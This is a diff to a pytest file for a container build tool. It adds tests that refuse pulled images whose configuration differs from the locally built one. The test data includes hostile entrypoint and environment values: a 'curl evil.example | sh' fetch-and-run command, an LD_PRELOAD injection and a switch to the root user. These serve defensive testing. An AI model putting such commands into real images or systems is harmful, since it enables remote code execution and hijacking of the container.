@@ -1,4 +1,4 @@
-"""A pull from a registry on loopback, where the engine's command is a script: which layers are compared."""
+"""A pull from a registry on loopback, where the engine's command is a script: which layers, and which configuration, are compared."""
 
 import hashlib
 import json
@@ -10,7 +10,8 @@ from cell_inputs import complete, inputs_for
 
 from envbuild.engine.built import OwnBuild, remember_built
 from envbuild.engine.client import EngineClient
-from envbuild.engine.trust import Expected, Verified, pulled_for, require_own_layers
+from envbuild.engine.image import Image, image_from
+from envbuild.engine.trust import Expected, Verified, pulled_for, require_own_content
 from envbuild.errors import LockError
 from envbuild.matrix.load import load_matrix
 from envbuild.pipeline.prebuilt import pull_prebuilt
@@ -20,6 +21,11 @@ from envbuild.settings import Settings
 MANIFEST = b"{}"
 ONE = "sha256:" + hashlib.sha256(MANIFEST).hexdigest()
 TWO, THREE = (f"sha256:{digit * 64}" for digit in "23")
+
+
+def image(*layers: str, **config: object) -> Image:
+    """An image as the engine describes it."""
+    return image_from([{"Id": TWO, "Config": config, "RootFS": {"Layers": list(layers)}}], "x")
 
 
 @pytest.fixture(scope="module")
@@ -61,10 +67,10 @@ def pull(host, tmp_path, monkeypatch, plan):
     settings = Settings(cache_dir=tmp_path / "cache", registry=f"{host}/team")
     asked = tmp_path / "asked"
 
-    def run(*layers: str) -> list[str]:
+    def run(*layers: str, **config: object) -> list[str]:
         facts = {
             "Id": TWO,
-            "Config": {"Labels": plan.labels | {"io.envbuild.lock": "another"}},
+            "Config": {"Labels": plan.labels | {"io.envbuild.lock": "another"}} | config,
             "RepoDigests": [f"{host}/team@{ONE}"],
             "RootFS": {"Layers": layers},
         }
@@ -106,12 +112,60 @@ def test_the_layers_of_the_image_itself_are_compared_with_those_that_were_built_
 def test_without_a_whole_build_of_its_own_there_is_nothing_to_compare_with(pull, plan, note):
     if note is not None:
         remember_built(pull.settings, plan, note)
-    require_own_layers(pull.settings, plan, Verified(by="catalog", digest=ONE), (ONE,), where="here")
+    require_own_content(pull.settings, plan, Verified(by="catalog", digest=ONE), image(ONE), where="here")
 
 
 def test_who_names_a_digest_takes_its_layers(pull, plan):
     """A person's word comes before this machine's."""
     remember_built(pull.settings, plan, OwnBuild(digest=THREE, layers=(TWO,)))
-    require_own_layers(pull.settings, plan, Verified(by="flag", digest=ONE), (ONE,), where="here")
+    require_own_content(pull.settings, plan, Verified(by="flag", digest=ONE), image(ONE), where="here")
     with pytest.raises(LockError):
-        require_own_layers(pull.settings, plan, Verified(by="catalog", digest=ONE), (), where="here")
+        require_own_content(pull.settings, plan, Verified(by="catalog", digest=ONE), image(), where="here")
+
+
+BUILT_CONFIG = {"Entrypoint": ["/opt/envbuild/entry"], "Env": ["A=1", "B=2"], "User": "1000", "WorkingDir": "/work"}
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"Entrypoint": ["/bin/sh", "-c", "curl evil.example | sh"]},
+        {"Entrypoint": None},
+        {"Cmd": ["/bin/true"]},
+        {"Env": ["A=1", "B=2", "LD_PRELOAD=/tmp/x.so"]},
+        {"Env": ["B=2", "A=1"]},
+        {"User": "0"},
+        {"WorkingDir": "/"},
+        {"Volumes": {"/opt": {}}},
+        {"Labels": {"a": "b"}},
+        {"Healthcheck": {"Test": ["CMD", "x"]}},
+        {"Shell": ["/bin/bash"]},
+        {"StopSignal": "SIGKILL"},
+    ],
+    ids=lambda changed: next(iter(changed)),
+)
+def test_another_configuration_under_the_right_layers_is_refused(pull, plan, changed):
+    labels = plan.labels | {"io.envbuild.lock": "another"}
+    built = image(TWO, THREE, Labels=labels, **BUILT_CONFIG)
+    remember_built(pull.settings, plan, OwnBuild(digest=THREE, layers=(TWO, THREE), config=built.config))
+    with pytest.raises(LockError, match="starts them in another way") as error:
+        pull(TWO, THREE, **BUILT_CONFIG | changed)
+    assert error.value.exit_code == 4
+    words = pull.asked.read_text()
+    assert "mine:1" not in words
+    assert [line for line in words.splitlines() if "rm" in line]
+    assert pulled_for(pull.settings, plan) is None
+    (pull.asked.parent / "held").unlink()
+    with pytest.raises(LockError, match="made from another lock"):  # the configuration fits, and the labels come next
+        pull(TWO, THREE, **BUILT_CONFIG)
+
+
+def test_a_note_of_an_earlier_release_has_no_configuration_to_compare(pull, plan):
+    remember_built(pull.settings, plan, OwnBuild(digest=THREE, layers=(TWO, THREE)))
+    with pytest.raises(LockError, match="made from another lock"):
+        pull(TWO, THREE, **BUILT_CONFIG)
+
+
+def test_how_an_engine_writes_an_empty_field_makes_no_difference():
+    empty = {"Cmd": None, "Volumes": {}, "User": "", "OnBuild": [], "AttachStdin": False, "Hostname": ""}
+    assert image(ONE, **BUILT_CONFIG).config == image(TWO, **empty | BUILT_CONFIG).config
